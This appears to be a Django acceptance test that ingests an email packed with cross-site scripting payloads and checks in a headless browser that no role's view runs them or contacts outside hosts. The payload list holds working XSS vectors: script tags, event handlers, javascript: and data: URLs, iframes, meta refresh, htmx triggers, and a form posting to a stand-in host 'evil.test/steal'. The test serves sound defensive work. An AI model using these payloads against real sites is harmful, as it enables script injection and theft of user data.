"""Hostile mail in a real browser (issue 19, acceptance): every payload class in the subject,
the sender's name, the text, the HTML and an attachment's file name, ingested through the real
intake path, then shown in Chromium to every role: the agent, the supervisor, the administrator
(queue, ticket page, the admin's message list) and the customer on the portal through a one-time
link. No dialog may open, no payload may run, and no request may leave 127.0.0.1."""

from __future__ import annotations

import os
from email.message import EmailMessage
from email.utils import format_datetime, formataddr
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from django.contrib.auth import get_user_model
from django.contrib.staticfiles.testing import StaticLiveServerTestCase
from django.test import override_settings

from supportdesk.mail.ingest import ingest_raw
from supportdesk.portal.services import access_link_issue
from supportdesk.test import PASSWORD, Personas, office_time
from supportdesk.testing.browser import ChromiumPerClass
from supportdesk.testing.servers import chromium_available
from supportdesk.tickets.models import Ticket

PACKAGE_STATIC = Path(__file__).resolve().parents[1] / "static"
EVIL = "http://evil.test"

pytestmark = pytest.mark.skipif(not chromium_available(), reason="needs /usr/bin/chromium")

# One payload of every class; each would open a dialog, set window.__pwned or fetch from EVIL.
PAYLOADS = (
    "<script>alert('script');window.__pwned='script'</script>",
    "<img src=x onerror=\"alert('onerror');window.__pwned='onerror'\">",
    "<body onload=alert('onload')><div onmouseover=alert('hover') style='position:fixed;inset:0'>x</div>",
    "<svg onload=\"alert('svg')\"><script>alert('svg-script')</script><a xlink:href='javascript:alert(1)'>s</a></svg>",
    f"<style>@import '{EVIL}/import.css'; body {{ background: url({EVIL}/bg.png) }}</style>",
    f"<div style=\"background-image:url({EVIL}/inline.png);behavior:url({EVIL}/x.htc)\">css</div>",
    "<a href=\"javascript:alert('js-url')\">js</a> <a href=\"JaVaScRiPt:alert('js2')\">js2</a>",
    "<a href=\"data:text/html,<script>alert('data')</script>\">data</a>"
    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\">",
    f"<form action=\"{EVIL}/steal\" method=post><input name=p autofocus onfocus=\"alert('focus')\">"
    "<button formaction=\"javascript:alert('formaction')\">go</button></form>",
    f"<iframe src=\"{EVIL}/frame\"></iframe><iframe srcdoc=\"<script>parent.alert('srcdoc')</script>\"></iframe>",
    f"<meta http-equiv=\"refresh\" content=\"0;url={EVIL}/refresh\">",
    f"<div hx-get=\"{EVIL}/hx-get\" hx-trigger=\"load\">hx</div>"
    f"<button hx-post=\"{EVIL}/hx-post\" hx-trigger=\"load, every 1s\" hx-target=\"body\">hx</button>",
    f"<img src=\"{EVIL}/track.png\"><object data=\"{EVIL}/o.swf\"></object><embed src=\"{EVIL}/e.swf\">",
)
ALL = " ".join(PAYLOADS)
SUBJECT = "Титры " + PAYLOADS[0] + PAYLOADS[1] + PAYLOADS[11]
NAME = "Иван <img src=x onerror=alert('name')> <svg onload=alert('name2')> " + PAYLOADS[11][:60]
FILENAME = "<img src=x onerror=alert('file')><svg onload=alert(1)>\"'javascript:alert(1).html"


def hostile_mail() -> bytes:
    msg = EmailMessage()
    msg["From"] = formataddr((NAME, "ivanov@tv-sibir.ru"))
    msg["To"] = "forward@softlab.tv"
    msg["Subject"] = SUBJECT
    msg["Date"] = format_datetime(office_time(2026, 5, 12, 10))
    msg["Message-ID"] = "<hostile-1@tv-sibir.ru>"
    msg.set_content("Титры не выводятся.\n" + ALL)
    msg.add_alternative(f"<html><head>{PAYLOADS[10]}{PAYLOADS[4]}</head><body><p>Титры не выводятся.</p>"
                        f"{ALL}</body></html>", subtype="html")
    msg.add_attachment((b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(2)</script>"
                        b"</svg>"), maintype="image", subtype="svg+xml", filename=FILENAME)
    msg.add_attachment(ALL.encode(), maintype="text", subtype="html", filename="report<script>alert(1)</script>.html")
    return msg.as_bytes()


@override_settings(STATICFILES_DIRS=[PACKAGE_STATIC])
class HostileMailTests(Personas, ChromiumPerClass, StaticLiveServerTestCase):
    host = "127.0.0.1"  # every request the page makes must go here, and only here

    @classmethod
    def setUpClass(cls) -> None:
        # Playwright's sync API runs an event loop in this thread; the test's own ORM calls are fine.
        os.environ.setdefault("DJANGO_ALLOW_ASYNC_UNSAFE", "true")
        super().setUpClass()

    def setUp(self) -> None:
        super().setUp()
        self.make_personas()
        get_user_model().objects.create_superuser("root", "root@softlab.tv", PASSWORD)
        result = ingest_raw(hostile_mail(), source="lmtp", received_at=office_time(2026, 5, 12, 10))
        self.ticket = Ticket.objects.get(pk=result.ticket_id)
        self.dialogs: list[str] = []
        self.outside: list[str] = []

    def open_context(self) -> Any:
        context = self.browser.new_context(locale="ru-RU")

        def guard(route: Any) -> None:
            if urlsplit(route.request.url).hostname in ("127.0.0.1", None):
                route.continue_()
            else:
                self.outside.append(route.request.url)
                route.abort()

        context.route("**/*", guard)
        context.on("request", lambda r: (urlsplit(r.url).scheme in ("http", "https", "ws", "wss")
                                         and urlsplit(r.url).hostname != "127.0.0.1"
                                         and self.outside.append(r.url)))
        context.on("page", self.watch)
        self.addCleanup(context.close)
        page = context.new_page()
        page.set_default_timeout(15_000)
        return page

    def watch(self, page: Any) -> None:
        def on_dialog(dialog: Any) -> None:
            self.dialogs.append(f"{page.url}: {dialog.type} {dialog.message}")
            dialog.dismiss()

        page.on("dialog", on_dialog)

    def login(self, page: Any, username: str) -> None:
        page.goto(self.live_server_url + "/login/")
        page.fill("#id_username", username)
        page.fill("#id_password", PASSWORD)
        page.click("#login-submit")
        # The next goto would cancel a log-in still in flight (and look at the login page).
        page.wait_for_url(lambda url: "/login/" not in url)
        page.wait_for_load_state("networkidle")

    def look(self, page: Any, path: str) -> None:
        """Open the page, move over and focus what it shows, and let timers and htmx triggers fire."""
        response = page.goto(self.live_server_url + path)
        assert response is not None and response.status == 200, path
        page.mouse.move(300, 300)
        page.keyboard.press("Tab")
        page.wait_for_timeout(1500)
        assert page.evaluate("window.__pwned") is None, path
        assert page.evaluate("document.querySelectorAll(\"a[href^='javascript:' i], a[href^='data:' i], "
                             "iframe, object, embed, form[action*='evil'], meta[http-equiv='refresh' i], "
                             "[hx-get*='evil'], [hx-post*='evil'], [onerror], [onload]\").length") == 0, path
        assert self.dialogs == [] and self.outside == [], path

    def test_staff_see_the_hostile_mail_and_nothing_runs(self) -> None:
        assert "<script>" in self.ticket.subject  # stored as written; escaped on every page
        for username in ("alice", "sam", "root"):
            page = self.open_context()
            self.login(page, username)
            self.look(page, "/agent/")
            self.look(page, f"/agent/tickets/{self.ticket.pk}/")
            assert "Титры не выводятся." in page.inner_text("body")
            if username == "root":
                self.look(page, "/admin/tickets/message/")
                self.look(page, "/admin/tickets/ticket/")

    def test_the_customer_sees_it_on_the_portal_and_nothing_runs(self) -> None:
        token = access_link_issue(ticket=self.ticket, email="ivanov@tv-sibir.ru")
        page = self.open_context()
        page.goto(f"{self.live_server_url}/portal/access/{token}/")
        page.click("#access-form button[type=submit]")
        page.wait_for_url(f"**/portal/ticket/{self.ticket.pk}/")
        self.look(page, f"/portal/ticket/{self.ticket.pk}/")
        assert "Титры не выводятся." in page.inner_text("body")
